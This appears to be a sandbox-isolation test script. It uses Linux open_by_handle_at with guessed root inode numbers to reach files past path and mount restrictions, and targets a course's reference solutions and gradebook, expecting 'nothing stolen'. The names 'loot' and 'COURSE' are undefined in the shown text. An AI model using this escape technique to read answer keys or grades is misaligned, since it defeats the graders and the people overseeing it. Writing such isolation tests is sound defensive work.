"""Opens files by their inode numbers, with ``open_by_handle_at``, which asks no path and no mount for leave.

Expected: nothing stolen.
"""

import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
ROOTS = (2, 128, 256)  # the inode of a root folder on ext4, xfs, btrfs
for place in (".", "/", "/etc/hosts", "/etc/resolv.conf", "/dev/shm", "/usr"):
    try:
        mount = os.open(place, os.O_RDONLY)
    except OSError:
        continue
    for inode in ROOTS:
        handle = ctypes.create_string_buffer(struct.pack("=IiII", 8, 1, inode, 0))
        root = libc.open_by_handle_at(mount, handle, os.O_RDONLY | os.O_DIRECTORY)
        if root < 0:
            continue
        for target in ("solutions/toy/law.py", "gradebook.db"):
            try:
                print(*loot(os.read(os.open(f".{COURSE}/{target}", os.O_RDONLY, dir_fd=root), 1_000_000)))
            except OSError:
                pass
    os.close(mount)
